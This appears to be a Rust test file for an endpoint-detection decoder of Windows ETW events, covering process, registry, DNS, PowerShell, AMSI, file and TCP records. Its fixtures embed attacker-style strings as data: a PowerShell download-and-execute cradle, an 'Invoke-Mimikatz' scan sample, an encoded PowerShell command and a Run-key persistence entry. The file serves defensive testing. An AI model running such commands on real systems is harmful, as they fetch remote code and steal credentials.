//! Layouts that no recorded trace contains, checked on payloads built field by field from the
//! layouts documented in each decoder module, in both pointer sizes.

use edr_etw::{EventDescriptor, EventRecord, FileTime, Guid, HeaderKind, PointerSize};

use super::*;

/// Payload builder.
#[derive(Default)]
struct Fields(Vec<u8>);

impl Fields {
    fn u8(mut self, v: u8) -> Self {
        self.0.push(v);
        self
    }
    fn u16(mut self, v: u16) -> Self {
        self.0.extend_from_slice(&v.to_le_bytes());
        self
    }
    fn u32(mut self, v: u32) -> Self {
        self.0.extend_from_slice(&v.to_le_bytes());
        self
    }
    fn u64(mut self, v: u64) -> Self {
        self.0.extend_from_slice(&v.to_le_bytes());
        self
    }
    fn ptr(self, v: u64, ps: PointerSize) -> Self {
        match ps {
            PointerSize::Bits32 => self.u32(v as u32),
            PointerSize::Bits64 => self.u64(v),
        }
    }
    fn bytes(mut self, b: &[u8]) -> Self {
        self.0.extend_from_slice(b);
        self
    }
    fn wstr(mut self, s: &str) -> Self {
        for unit in s.encode_utf16().chain([0]) {
            self.0.extend_from_slice(&unit.to_le_bytes());
        }
        self
    }
    fn astr(mut self, s: &str) -> Self {
        self.0.extend_from_slice(s.as_bytes());
        self.0.push(0);
        self
    }
}

fn record(
    provider: Guid,
    kernel: bool,
    id_or_opcode: u16,
    version: u8,
    ps: PointerSize,
    data: &[u8],
) -> EventRecord<'_> {
    EventRecord {
        header_kind: if kernel {
            HeaderKind::System
        } else {
            HeaderKind::Event
        },
        provider_id: provider,
        descriptor: EventDescriptor {
            id: if kernel { 0 } else { id_or_opcode },
            version,
            opcode: if kernel { id_or_opcode as u8 } else { 0 },
            ..EventDescriptor::default()
        },
        hook_id: 0,
        flags: 0,
        event_property: 0,
        thread_id: 1,
        process_id: 2,
        timestamp_raw: 0,
        timestamp: FileTime(0),
        processor: 0,
        kernel_time: 0,
        user_time: 0,
        activity_id: Guid::NIL,
        pointer_size: ps,
        extended: Default::default(),
        user_data: data,
    }
}

fn decode(rec: &EventRecord<'_>) -> (Option<RawEvent>, DecodeStats) {
    let mut decoder = Decoder::new();
    let event = decoder.decode(rec).map(|d| d.event);
    (event, decoder.stats().clone())
}

/// Kernel process v4: key, ids, session, exit status, table base, flags, SID, names.
fn process_v4(ps: PointerSize) -> Vec<u8> {
    let sid = [1u8, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0];
    Fields::default()
        .ptr(0xffff_8000_1234_5678, ps)
        .u32(1234)
        .u32(567)
        .u32(1)
        .u32(259)
        .ptr(0x1aa000, ps)
        .u32(0)
        .ptr(0xdead, ps)
        .ptr(0, ps)
        .bytes(&sid)
        .astr("cmd.exe")
        .wstr("cmd.exe /c whoami")
        .wstr("")
        .wstr("")
        .0
}

#[test]
fn kernel_process_v4_both_pointer_sizes() {
    for ps in [PointerSize::Bits32, PointerSize::Bits64] {
        let data = process_v4(ps);
        let (event, _) = decode(&record(
            providers::KERNEL_PROCESS_GROUP,
            true,
            1,
            4,
            ps,
            &data,
        ));
        let Some(RawEvent::Process(p)) = event else {
            panic!("{ps:?}: {event:?}")
        };
        assert_eq!(p.process_id, 1234);
        assert_eq!(p.parent_process_id, Some(567));
        assert_eq!(p.user_sid.as_deref(), Some("S-1-5-18"));
        assert_eq!(p.image_name, "cmd.exe");
        assert_eq!(p.command_line.as_deref(), Some("cmd.exe /c whoami"));
        let expected_key = if ps == PointerSize::Bits32 {
            0x1234_5678
        } else {
            0xffff_8000_1234_5678
        };
        assert_eq!(p.unique_process_key, Some(expected_key));
    }
}

#[test]
fn newer_version_decodes_only_when_layout_fits() {
    let ps = PointerSize::Bits64;
    let mut data = process_v4(ps);
    data.extend_from_slice(&[7, 7, 7, 7]);
    let (event, stats) = decode(&record(
        providers::KERNEL_PROCESS_GROUP,
        true,
        1,
        9,
        ps,
        &data,
    ));
    assert!(matches!(event, Some(RawEvent::Process(_))), "{event:?}");
    assert_eq!(stats.decoded, 1);

    // Cut inside the command line: no terminator proves the layout.
    let cut = &data[..data.len() - 12];
    let (event, stats) = decode(&record(
        providers::KERNEL_PROCESS_GROUP,
        true,
        1,
        9,
        ps,
        cut,
    ));
    assert_eq!(event, None);
    assert_eq!(stats.undecodable_total(), 1);
    let ((key, reason), _) = stats.undecodable.iter().next().unwrap();
    assert_eq!(key.version, 9);
    assert_eq!(*reason, UndecodableReason::LayoutMismatch);

    // Older than every layout.
    let (_, stats) = decode(&record(
        providers::KERNEL_PROCESS_GROUP,
        true,
        1,
        0,
        ps,
        &data,
    ));
    assert_eq!(
        stats.undecodable.keys().next().unwrap().1,
        UndecodableReason::UnknownVersion
    );
}

#[test]
fn kernel_registry_set_value() {
    let ps = PointerSize::Bits32;
    let data = Fields::default()
        .u64(5)
        .u32(0)
        .u32(0)
        .ptr(0xabc, ps)
        .wstr("Run")
        .0;
    let (event, _) = decode(&record(
        providers::KERNEL_REGISTRY_GROUP,
        true,
        14,
        2,
        ps,
        &data,
    ));
    let Some(RawEvent::Registry(r)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(r.operation, RegistryOperation::SetValue);
    assert_eq!(r.key_object, 0xabc);
    assert_eq!(r.key_name, "Run");
}

#[test]
fn manifest_registry_set_value_key() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .ptr(0xffff_1111, ps)
        .u32(0)
        .u32(1)
        .u32(8)
        .wstr("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")
        .wstr("evil")
        .u16(4)
        .bytes(b"c\0:\0")
        .u32(0)
        .u32(0)
        .u16(0)
        .0;
    let (event, _) = decode(&record(providers::KERNEL_REGISTRY, false, 5, 0, ps, &data));
    let Some(RawEvent::Registry(r)) = event else {
        panic!("{event:?}")
    };
    assert!(r.key_name.ends_with("CurrentVersion\\Run"));
    assert_eq!(r.value_name.as_deref(), Some("evil"));
    assert_eq!(r.value_type, Some(1));
    assert_eq!(r.data_size, Some(8));
    assert_eq!(r.captured_data.as_deref(), Some(&b"c\0:\0"[..]));
}

#[test]
fn dns_query_completed_splits_results() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .wstr("example.com")
        .u32(1)
        .u64(0x4000)
        .u32(0)
        .wstr("93.184.216.34;::ffff:93.184.216.35;")
        .0;
    let (event, _) = decode(&record(providers::DNS_CLIENT, false, 3008, 0, ps, &data));
    let Some(RawEvent::Dns(d)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(d.query_name.as_deref(), Some("example.com"));
    assert_eq!(d.query_type, Some(1));
    assert_eq!(d.status, Some(0));
    assert_eq!(d.answers, ["93.184.216.34", "::ffff:93.184.216.35"]);
}

#[test]
fn dns_query_carries_servers() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .wstr("evil.test")
        .u32(28)
        .u64(0)
        .wstr("10.0.0.1;")
        .u32(1)
        .u32(0)
        .u32(7)
        .u32(0)
        .0;
    let (event, _) = decode(&record(providers::DNS_CLIENT, false, 3006, 0, ps, &data));
    let Some(RawEvent::Dns(d)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(d.operation, DnsOperation::Query);
    assert_eq!(d.query_type, Some(28));
    assert_eq!(d.server_list.as_deref(), Some("10.0.0.1;"));
    assert_eq!(d.interface_index, Some(7));
}

#[test]
fn powershell_script_block() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .u32(1)
        .u32(1)
        .wstr("IEX (New-Object Net.WebClient).DownloadString('http://x')")
        .wstr("2b5d4c1a-0000-4000-8000-000000000000")
        .wstr("")
        .0;
    let (event, _) = decode(&record(providers::POWERSHELL, false, 4104, 1, ps, &data));
    let Some(RawEvent::ScriptBlock(s)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(s.message_number, 1);
    assert!(s.script_block_text.starts_with("IEX"));
    assert_eq!(s.path, "");
}

#[test]
fn powershell_command_invocation_context() {
    let ps = PointerSize::Bits64;
    let context = "        Severity = Informational\r\n        Host Application = powershell.exe -enc AAA\r\n        Command Name = Invoke-Expression\r\n        User = CORP\\alice\r\n";
    let data = Fields::default()
        .wstr(context)
        .wstr("")
        .wstr("CommandInvocation(Invoke-Expression)")
        .0;
    let (event, _) = decode(&record(providers::POWERSHELL, false, 4103, 1, ps, &data));
    let Some(RawEvent::PowerShell(p)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(
        p.host_application.as_deref(),
        Some("powershell.exe -enc AAA")
    );
    assert_eq!(p.command_name.as_deref(), Some("Invoke-Expression"));
    assert_eq!(p.user.as_deref(), Some("CORP\\alice"));
}

#[test]
fn amsi_manifest_scan() {
    let ps = PointerSize::Bits64;
    let content: Vec<u8> = "Invoke-Mimikatz"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let data = Fields::default()
        .u64(42)
        .u8(1)
        .u32(32768)
        .wstr("PowerShell_C:\\Windows\\powershell.exe")
        .wstr("")
        .u32(content.len() as u32)
        .u32(content.len() as u32)
        .bytes(&content)
        .bytes(&[0xaa; 32])
        .u32(0)
        .0;
    let (event, _) = decode(&record(providers::AMSI, false, 1101, 0, ps, &data));
    let Some(RawEvent::AmsiScan(a)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(a.content, "Invoke-Mimikatz");
    assert_eq!(a.scan_result, Some(32768));
    assert_eq!(a.session, Some(42));
    assert_eq!(a.hash.as_deref(), Some(&[0xaa; 32][..]));
}

#[test]
fn kernel_file_v3_rename_path() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .ptr(1, ps)
        .ptr(2, ps)
        .ptr(3, ps)
        .ptr(4, ps)
        .u32(99)
        .u32(10)
        .wstr("\\Device\\HarddiskVolume2\\Users\\a\\new.txt")
        .0;
    let (event, _) = decode(&record(
        providers::KERNEL_FILE_GROUP,
        true,
        80,
        3,
        ps,
        &data,
    ));
    let Some(RawEvent::File(f)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(f.operation, FileOperation::RenamePath);
    assert_eq!(f.file_object, Some(2));
    assert_eq!(f.file_key, Some(3));
    assert_eq!(f.issuing_thread_id, Some(99));
    assert_eq!(f.info_class, Some(10));
    assert!(f.path.as_deref().unwrap().ends_with("new.txt"));
}

#[test]
fn kernel_tcp_connect_ipv4() {
    let ps = PointerSize::Bits64;
    let data = Fields::default()
        .u32(4321)
        .u32(0)
        .bytes(&[93, 184, 216, 34])
        .bytes(&[10, 0, 0, 5])
        .bytes(&443u16.to_be_bytes())
        .bytes(&50000u16.to_be_bytes())
        .u16(1460)
        .u16(0)
        .u16(0)
        .u16(0)
        .u32(65535)
        .u16(8)
        .u16(8)
        .u32(7)
        .ptr(0xfeed, ps)
        .0;
    let (event, _) = decode(&record(
        providers::KERNEL_TCPIP_GROUP,
        true,
        12,
        2,
        ps,
        &data,
    ));
    let Some(RawEvent::Network(n)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(n.operation, NetworkOperation::Connect);
    assert_eq!(n.remote(), ("93.184.216.34".parse().unwrap(), 443));
    assert_eq!(n.local(), ("10.0.0.5".parse().unwrap(), 50000));
    assert_eq!(n.mss, Some(1460));
    assert_eq!(n.sequence_number, Some(7));
    assert_eq!(n.connection_id, Some(0xfeed));
}

#[test]
fn manifest_process_start_v3() {
    let ps = PointerSize::Bits64;
    let label = [1u8, 1, 0, 0, 0, 0, 0, 16, 0, 0x30, 0, 0];
    let data = Fields::default()
        .u32(800)
        .u64(1001)
        .u64(132_000_000_000_000_000)
        .u32(700)
        .u64(1000)
        .u32(1)
        .u32(0)
        .u32(1)
        .u32(0)
        .bytes(&label)
        .wstr("\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe")
        .u32(0)
        .u32(0)
        .wstr("")
        .wstr("")
        .0;
    let (event, _) = decode(&record(providers::KERNEL_PROCESS, false, 1, 3, ps, &data));
    let Some(RawEvent::Process(p)) = event else {
        panic!("{event:?}")
    };
    assert_eq!(p.process_id, 800);
    assert_eq!(p.sequence_number, Some(1001));
    assert_eq!(p.parent_process_id, Some(700));
    assert_eq!(p.parent_sequence_number, Some(1000));
    assert!(p.image_name.ends_with("cmd.exe"));
}
